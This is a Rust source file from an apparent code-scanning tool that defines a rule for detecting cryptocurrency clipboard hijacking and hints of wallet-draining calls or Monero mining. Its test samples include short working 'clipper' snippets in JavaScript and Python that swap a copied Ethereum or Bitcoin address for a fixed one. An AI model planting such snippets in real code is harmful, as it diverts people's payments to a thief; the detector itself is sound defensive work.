//! Addresses of money: who puts one in another's place, and who mines for one.

use super::{Rule, network::MINER};
use crate::guard::{fact::Call, found::Found, value::Value, verdict::Severity};

pub static SWAP: Rule = Rule {
    id: "wallet-swap",
    severity: Severity::Block,
    why: "it looks for addresses of money, and puts another in their place",
    remedy: "leave what a visitor copies as it is",
    finds: &[
        (
            "x.js",
            "document.addEventListener('copy', (e) => { if (/0x[a-fA-F0-9]{40}/.test(String(getSelection()))) e.clipboardData.setData('text/plain', '0x7F367cC41522cE07553e823bf3be79A889DEbe1B'); })",
        ),
        (
            "x.py",
            "import re, pyperclip\nif re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n    pyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n",
        ),
    ],
    spares: &[
        ("x.js", "copy.onclick = () => navigator.clipboard.writeText('0x7F367cC41522cE07553e823bf3be79A889DEbe1B');"),
        ("x.js", "export const isAddress = (s) => /^0x[a-fA-F0-9]{40}$/.test(s);"),
    ],
};

pub(super) const RULES: &[&Rule] = &[&SWAP];

/// What a file knows of addresses of money. Each by itself is what a shop does.
#[derive(Clone, Copy, Default)]
pub(in crate::guard) struct Wallet {
    /// A pattern of such addresses.
    looks: bool,
    /// An address.
    has: bool,
    /// Something is put on the clipboard.
    copies: bool,
}

pub(super) fn text(text: &str, line: usize, found: &mut Found<'_>) {
    if text.len() < 6 || text.len() > 512 {
        return;
    }
    found.wallet.looks |= is_pattern(text);
    if matches!(text, "eth_sendTransaction" | "setApprovalForAll" | "increaseAllowance") {
        found.hint(&SWAP, line, "it asks a visitor's wallet to pay");
    }
    if is_address(text) {
        found.wallet.has = true;
        judge(line, found);
    }
    if is_monero(text) {
        if found.socket_host.is_some() {
            found.add(&MINER, line, "what is computed is paid to an address of Monero");
        } else {
            found.hint(&MINER, line, "an address of Monero");
        }
    }
}

pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    let copies = matches!(call.method(), "setData" | "writeText")
        || matches!(
            call.path,
            "pyperclip.copy"
                | "clipboard.copy"
                | "clipboardy.write"
                | "clipboardy.writeSync"
                | "navigator.clipboard.write"
        );
    if copies {
        found.wallet.copies = true;
    }
    // `re.compile(r'0x…')` is a text; so is what `replace` puts in the place of a pattern.
    found.wallet.looks |= call.args.iter().filter_map(|arg| arg.get("source")).filter_map(Value::known).any(is_pattern);
    if copies || call.method() == "replace" {
        judge(line, found);
    }
}

fn judge(line: usize, found: &mut Found<'_>) {
    if found.wallet.looks && found.wallet.has && found.wallet.copies {
        found.add(&SWAP, line, "the clipboard");
    }
}

/// Whether a text is a pattern that finds addresses of well-known coins.
pub(in crate::guard) fn is_pattern(text: &str) -> bool {
    let classes = text.contains('[') && text.contains('{');
    classes
        && (text.contains("0x[") && text.contains("{40}")
            || text.contains("bc1")
            || text.contains("[13]")
            || text.contains("[48]") && text.contains('9')
            || text.contains("T[A-Za-z1-9]{33}"))
}

fn is_address(text: &str) -> bool {
    let base58 = |rest: &str| rest.chars().all(|c| c.is_ascii_alphanumeric() && !matches!(c, '0' | 'O' | 'I' | 'l'));
    if text.len() < 26 || !text.starts_with(['0', 'b', '1', '3', '4', '8', 'T', 'L', 'D']) {
        return false;
    }
    let mixed = text.chars().any(|c| c.is_ascii_digit()) && text.chars().any(|c| c.is_ascii_alphabetic());
    mixed
        && match text.len() {
            42 if text.starts_with("0x") => text[2..].chars().all(|c| c.is_ascii_hexdigit()),
            39..=62 if text.starts_with("bc1") => text.chars().all(|c| c.is_ascii_alphanumeric()),
            26..=35 => text.starts_with(['1', '3', 'T', 'L', 'D']) && base58(text),
            _ => is_monero(text),
        }
}

fn is_monero(text: &str) -> bool {
    text.len() == 95
        && text.starts_with(['4', '8'])
        && text.chars().all(|c| c.is_ascii_alphanumeric() && !matches!(c, '0' | 'O' | 'I' | 'l'))
}
